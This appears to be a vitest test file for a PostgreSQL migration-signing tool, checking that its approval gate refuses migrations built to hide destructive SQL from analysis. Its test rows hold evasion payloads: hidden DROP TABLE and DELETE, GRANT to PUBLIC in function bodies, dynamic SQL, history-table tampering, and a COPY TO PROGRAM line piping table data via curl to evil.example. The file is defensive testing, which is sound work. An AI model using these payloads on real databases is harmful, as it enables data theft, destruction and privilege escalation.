/**
 * The approval gate on a real PostgreSQL server: an insider with the release key writes a
 * migration so that what it does hides from the analysis. Each bundle is packed and signed
 * for real and applied through the CLI with a policy that refuses the finding: exit 2,
 * FINDINGS_NOT_ALLOWED (or ANALYSIS_MISSING) naming the rule, and pg_dump of the database
 * (schema, data, migseal's history) identical before and after. Threats T5.2, T5.3, T5.6
 * and T5.10 in docs/threats.md.
 */
import { copyFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { writePolicy } from '../helpers/fixtures.js';
import { usePostgresWorld } from '../helpers/postgres-world.js';

const ctx = usePostgresWorld();
let databases = 0;
let strict: string;
/**
 * One database with release 1 applied (so migseal's history exists), shared by every attack: each
 * refusal must leave it exactly as it was (its pg_dump is compared after each), so it is the
 * same database for the next.
 */
let gate: { name: string; url: string; dump: string };

/** Refuses every destructive, outside-schema and parse finding: what a careful production host would say. */
function strictPolicy(): string {
  const dir = join(ctx.world.dir, 'keys-strict');
  mkdirSync(dir, { mode: 0o700, recursive: true });
  copyFileSync(ctx.world.key.publicPath, join(dir, 'release.pub'));
  const findings = { category: { destructive: 'refuse', 'outside-schema': 'refuse', parse: 'refuse' } };
  return writePolicy(dir, { keys: [{ key: ctx.world.key, roles: ['release'] }], environments: { default: { release: 1, findings } } });
}

const BASE = {
  '1_accounts.up.sql': "CREATE TABLE accounts (id int PRIMARY KEY, owner text NOT NULL);\nINSERT INTO accounts VALUES (1, 'alice');\n",
  '1_accounts.down.sql': 'DROP TABLE accounts;\n',
};

beforeAll(async () => {
  strict = strictPolicy();
  const name = `gate_${++databases}`;
  const url = await ctx.cluster.createDatabase(name);
  const applied = await ctx.world.migseal(['apply', await ctx.world.bundle(BASE, { release: '1' }), '--trust', strict, '--db', url]);
  expect(applied.stderr).toBe('');
  expect(applied.code).toBe(0);
  gate = { name, url, dump: await ctx.cluster.dump(name) };
});

async function expectRefused(db: { name: string; url: string; dump?: string }, command: string[], code: string, message: RegExp): Promise<void> {
  const before = db.dump ?? (await ctx.cluster.dump(db.name));
  const result = await ctx.world.migseal([...command, '--json']);
  expect(result.code).toBe(2);
  expect(JSON.parse(result.stdout)).toMatchObject({ ok: false, code });
  expect(result.stderr).toMatch(message);
  expect(await ctx.cluster.dump(db.name)).toBe(before);
}

/** Packs release 2 = release 1 plus `migration` as 2_hidden.up.sql, signed with the real release key, and applies it. */
async function attack(migration: string, rule: string, extra: Record<string, string> = {}): Promise<void> {
  const db = gate;
  const bundle = await ctx.world.bundle({ ...BASE, '2_hidden.up.sql': migration, ...extra }, { release: '2', dialect: 'postgres' });
  const ruleText = rule.replace(/[/.]/g, (c) => `\\${c}`);
  await expectRefused(db, ['apply', bundle, '--trust', strict, '--db', db.url], 'FINDINGS_NOT_ALLOWED', new RegExp(`refuses ${ruleText} at 2_hidden\\.up\\.sql line \\d+`));
}

/** Each row: what the test shows, release 2's hidden migration, and the rule that must refuse it. */
type Attack = [title: string, migration: string, rule: string];

describe('T5.2 settings that change how later SQL is read', () => {
  it.each<Attack>([
    ['SET standard_conforming_strings = off before a backslash-quoted string hiding DROP TABLE', "SET standard_conforming_strings = off;\nSELECT 'it\\'s fine; DROP TABLE accounts; --';\n", 'parse/tokenizer-setting'],
    ['set_config with the setting name computed at run time', "SELECT set_config('standard_' || 'conforming_strings', 'off', false);\n", 'parse/tokenizer-setting'],
    ['ALTER DATABASE ... SET backslash_quote, which every later session reads under', 'ALTER DATABASE postgres SET backslash_quote = on;\n', 'parse/tokenizer-setting'],
    ['UPDATE pg_settings (a view whose rule calls set_config)', "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings';\n", 'parse/tokenizer-setting'],
  ])('%s', (_title, migration, rule) => attack(migration, rule));

  it('is refused by default, with no policy entry for it', async () => {
    const db = gate;
    const bundle = await ctx.world.bundle({ ...BASE, '2_hidden.up.sql': 'SET escape_string_warning = off;\nSELECT 1;\n' }, { release: '2', dialect: 'postgres' });
    await expectRefused(db, ['apply', bundle, '--trust', ctx.world.policy, '--db', db.url], 'FINDINGS_NOT_ALLOWED', /refuses parse\/tokenizer-setting .* \(by rule "parse\/tokenizer-setting" \(default\)\)/);
  });
});

describe('T5.3 code that runs later is read as the statements it runs', () => {
  it.each<Attack>([
    ['GRANT inside a PL/pgSQL function body', "CREATE FUNCTION open_up() RETURNS void LANGUAGE plpgsql AS $body$\nBEGIN\n  GRANT ALL ON accounts TO PUBLIC;\nEND\n$body$;\nSELECT open_up();\n", 'outside-schema/grant'],
    [
      'COPY TO PROGRAM in a function created inside another function (nested dollar quotes)',
      'CREATE FUNCTION outer_fn() RETURNS void LANGUAGE plpgsql AS $a$\nBEGIN\n  CREATE FUNCTION inner_fn() RETURNS void LANGUAGE plpgsql AS $b$ BEGIN COPY accounts TO PROGRAM \'curl -d @- evil.example\'; END $b$;\nEND\n$a$;\n',
      'outside-schema/copy-program',
    ],
    ['DELETE without WHERE in a rule action (CREATE RULE ... DO ALSO)', 'CREATE TABLE audit_log (id int);\nCREATE RULE wipe AS ON INSERT TO audit_log DO ALSO DELETE FROM accounts;\n', 'destructive/delete-without-where'],
    [
      'a trigger function whose body drops a table',
      "CREATE FUNCTION on_owner() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DROP TABLE accounts; RETURN NEW; END $$;\nSET lock_timeout = '5s';\nCREATE TRIGGER t AFTER UPDATE ON accounts FOR EACH ROW EXECUTE FUNCTION on_owner();\n",
      'destructive/drop-table',
    ],
    ["an event trigger, which runs on every later DDL statement including migseal's own", 'CREATE FUNCTION on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN NULL; END $$;\nCREATE EVENT TRIGGER watch ON ddl_command_end EXECUTE FUNCTION on_ddl();\n', 'outside-schema/history-tables'],
    ['EXECUTE format() in a DO block', "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'accounts'); END $$;\n", 'parse/dynamic-sql'],
    ['SQL handed to query_to_xml as text', "SELECT query_to_xml('DELETE FROM accounts RETURNING 1', true, false, '');\n", 'parse/dynamic-sql'],
    ['a function body in a language the analysis cannot read (plperl)', "CREATE FUNCTION f() RETURNS void LANGUAGE plperl AS $$ spi_exec_query('DROP TABLE accounts'); $$;\n", 'parse/unreadable-body'],
    ['a data-modifying WITH hiding DELETE without WHERE inside a SELECT', 'WITH gone AS (DELETE FROM accounts RETURNING id) SELECT count(*) FROM gone;\n', 'destructive/delete-without-where'],
    ['EXPLAIN ANALYZE, which runs the statement it explains', 'EXPLAIN ANALYZE DELETE FROM accounts;\n', 'destructive/delete-without-where'],
    ['GRANT as an element of CREATE SCHEMA', 'CREATE SCHEMA reports CREATE TABLE r (id int) GRANT ALL ON r TO PUBLIC;\n', 'outside-schema/grant'],
  ])('%s', (_title, migration, rule) => attack(migration, rule));
});

describe("T5.10 migseal's own history tables", () => {
  it.each<Attack>([
    ['a migration that marks a migration applied in migseal_migrations', "UPDATE migseal_migrations SET state = 'applied' WHERE version = '1';\n", 'outside-schema/history-tables'],
    ['a temporary table shadowing migseal_runs', 'CREATE TEMP TABLE migseal_runs (run_id text);\n', 'outside-schema/history-tables'],
    ['a view of the same name in another schema', 'CREATE SCHEMA shadow;\nCREATE VIEW shadow.migseal_migrations AS SELECT 1 AS migration_key;\n', 'outside-schema/history-tables'],
    [
      'a trigger on migseal_migrations',
      "CREATE FUNCTION keep() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NULL; END $$;\nSET lock_timeout = '5s';\nCREATE TRIGGER keep BEFORE DELETE ON migseal_migrations FOR EACH ROW EXECUTE FUNCTION keep();\n",
      'outside-schema/history-tables',
    ],
    ['search_path changed for the deploy role', 'ALTER ROLE CURRENT_USER SET search_path = shadow, public;\n', 'outside-schema/role'],
    ['search_path changed for the session', 'SET search_path = shadow, public;\n', 'outside-schema/name-resolution'],
  ])('%s', (_title, migration, rule) => attack(migration, rule));
});

describe('T5.6 down scripts are judged before the first one runs', () => {
  it('a GRANT in a down script refuses the rollback; the database keeps every row and history row', async () => {
    const name = `gate_${++databases}`;
    const url = await ctx.cluster.createDatabase(name);
    const files = { ...BASE, '2_notes.up.sql': 'CREATE TABLE notes (id int);\n', '2_notes.down.sql': 'GRANT ALL ON accounts TO PUBLIC;\nDROP TABLE notes;\n' };
    const bundle = await ctx.world.bundle(files, { release: '1', dialect: 'postgres' });
    // Apply judges the up scripts only: nothing in them is refused.
    const applied = await ctx.world.migseal(['apply', bundle, '--trust', strict, '--db', url]);
    expect(applied.stderr).toBe('');
    expect(applied.code).toBe(0);
    await expectRefused({ name, url }, ['rollback', '--yes', bundle, '--trust', strict, '--db', url, '--to', '1'], 'FINDINGS_NOT_ALLOWED', /refuses outside-schema\/grant at 2_notes\.down\.sql line 1 \(a down script\)/);
  });
});
